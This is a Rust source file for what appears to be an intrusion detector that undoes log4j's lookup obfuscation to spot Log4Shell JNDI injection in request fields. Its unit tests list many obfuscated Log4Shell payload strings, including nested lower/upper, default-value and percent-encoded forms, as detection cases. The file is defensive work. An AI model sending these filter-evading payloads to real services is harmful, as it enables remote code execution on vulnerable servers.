//! Log4Shell lookups, read the way log4j reads them.
//!
//! A `${jndi:` can be spelled in many ways (`${${lower:j}ndi:`,
//! `${${::-j}ndi:`, `%24%7b...`), too many for fixed patterns, so the
//! Log4Shell signature's patterns are only openers: the matcher finds the
//! first one and hands the rest of the field to [`log4j_jndi`], which undoes
//! log4j's obfuscation syntax. A file of its own because it is a small
//! machine with its own tests, and it needs nothing from the matcher.

/// What a Log4Shell lookup must resolve to.
const JNDI: &[u8; 5] = b"jndi:";

/// Whether some log4j lookup in `s` (lowercased; from the first candidate
/// `${` or `%24%7b` on) resolves to `jndi:` once log4j's own obfuscation
/// syntax is undone: `${lower:x}` and `${upper:x}` give `x`,
/// `${anything:-x}` gives its default `x` (all after the first `:-`),
/// `${date:'x'}` gives `x`, a lookup
/// that starts `jndi:` is one whatever follows, nesting is followed, `}` is
/// dropped, and `%xx` is read as the byte.
///
/// One linear pass, however many `${` the field holds: a lookup opened at
/// some point is a small machine whose only state is how much of `jndi:` it
/// has spelled so far, so all the lookups in progress fit in one bit set
/// (bit k: some lookup has spelled `JNDI[..k]`); a lookup that spells anything
/// else drops out.
pub(super) fn log4j_jndi(s: &[u8]) -> bool {
    const DONE: u8 = 1 << 5;
    let mut live = 0u8;
    let mut i = 0;
    while i < s.len() {
        if live == 0 {
            // Nothing in progress: skip to the next possible opening.
            match memchr::memchr2(b'$', b'%', &s[i..]) {
                Some(p) => i += p,
                None => return false,
            }
        }
        if let Some(w) = opening_at(s, i) {
            i += w;
            live |= 1;
            let mut head = Head::default();
            while i < s.len() && opening_at(s, i).is_none() {
                let (c, w) = char_at(s, i);
                if c == b'}' {
                    break;
                }
                head.push(c);
                i += w;
            }
            let (v, total) = head.value();
            live = spell(live, v, total);
        } else {
            let (c, w) = char_at(s, i);
            i += w;
            if c != b'}' {
                live = spell(live, &[c], 1);
            }
        }
        if live & DONE != 0 {
            return true;
        }
    }
    false
}

/// The byte at `i` with `%xx` read as the (lowercased) byte, and its width.
#[inline]
fn char_at(s: &[u8], i: usize) -> (u8, usize) {
    let b = s[i];
    if b == b'%' {
        if let (Some(h), Some(l)) = (s.get(i + 1).and_then(hex), s.get(i + 2).and_then(hex)) {
            return ((h << 4 | l).to_ascii_lowercase(), 3);
        }
    }
    (b, 1)
}

/// The width of a lookup opening `${` (either byte possibly `%`-encoded) at `i`.
#[inline]
fn opening_at(s: &[u8], i: usize) -> Option<usize> {
    let (a, w1) = char_at(s, i);
    if a != b'$' || i + w1 >= s.len() {
        return None;
    }
    let (b, w2) = char_at(s, i + w1);
    (b == b'{').then_some(w1 + w2)
}

/// Advances every lookup in progress by a value whose first bytes are `v`
/// (up to 5) and whose length is `total`.
fn spell(live: u8, v: &[u8], total: usize) -> u8 {
    if total == 0 {
        return live;
    }
    let mut next = 0;
    for k in 0..JNDI.len() {
        if live >> k & 1 == 0 {
            continue;
        }
        let need = &JNDI[k..];
        if total >= need.len() {
            if v[..need.len()] == *need {
                next |= 1 << JNDI.len();
            }
        } else if need.starts_with(&v[..total]) {
            next |= 1 << (k + total);
        }
    }
    next
}

/// The text of one lookup up to its `}` or the next nested opening: enough
/// of it kept to tell its value's first five bytes.
#[derive(Default)]
struct Head {
    /// First bytes of the head, and how many there were.
    start: [u8; 16],
    len: usize,
    /// First bytes after the first `:-`, and how many there were.
    default: [u8; 5],
    default_len: usize,
    has_default: bool,
    last: u8,
}

impl Head {
    fn push(&mut self, c: u8) {
        if let Some(slot) = self.start.get_mut(self.len) {
            *slot = c;
        }
        self.len += 1;
        if self.last == b':' && c == b'-' && !self.has_default {
            // log4j takes the name up to the first `:-`, the default after it.
            self.has_default = true;
            self.default_len = 0;
        } else {
            if let Some(slot) = self.default.get_mut(self.default_len) {
                *slot = c;
            }
            self.default_len += 1;
        }
        self.last = c;
    }

    /// The first bytes of what the lookup resolves to, and its length.
    fn value(&self) -> (&[u8], usize) {
        let kept = &self.start[..self.len.min(self.start.len())];
        let (v, total) = if kept.starts_with(JNDI) {
            (kept, self.len)
        } else if self.has_default {
            (&self.default[..], self.default_len)
        } else if kept.starts_with(b"lower:") || kept.starts_with(b"upper:") {
            (&kept[6..], self.len - 6)
        } else if kept.starts_with(b"date:'") {
            (
                &kept[6..],
                (self.len - 6).saturating_sub(usize::from(self.last == b'\'')),
            )
        } else {
            (kept, self.len)
        };
        (&v[..total.min(v.len()).min(JNDI.len())], total)
    }
}

/// The value of a hex digit. Here rather than in `matcher.rs`, whose percent
/// decoding uses it too, because the matcher imports this file.
pub(super) fn hex(c: &u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn log4j_deobfuscation() {
        let yes = [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:ldap://x}",
            "${${upper:j}${upper:n}${lower:d}i:rmi://x}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x}",
            "${${env:nan:-j}ndi${env:nan:-:}ldap://x}",
            "${j${k8s:k5:-nd}i${sd:k5:-:}ldap://x}",
            "${${lower:${lower:jndi}}:ldap://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "%24%7bjndi:ldap://x%7d",
            "%24%7b%24%7blower:j%7dndi%3aldap://x%7d",
            "${a}${b:-c}${jndi:dns://x}",
            "${${x:-j}ndi:x}",
            "${::-x}${${::-j}ndi:x}",
            "${jndi:ldap://x.example/a:-b}",
            "${${what:ever:and:more:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}${lower::}x}",
        ];
        for s in yes {
            assert!(log4j_jndi(s.as_bytes()), "{s}");
        }
        let no = [
            "${version}",
            "${(#a=@org.apache.commons.io.ioutils@tostring(x))}",
            "${",
            "${jnd",
            "${lower:jndi}",
            "${java:version}${jndi",
            "${\njndi:x}",
            "${date:'",
            "${x}jndi:",
            "${lower:x}ndi:",
            "${${x:-n:-j}ndi:x}",
            "${${x:-j:-n}ndi:x}",
        ];
        for s in no {
            assert!(!log4j_jndi(s.as_bytes()), "{s}");
        }
    }
}
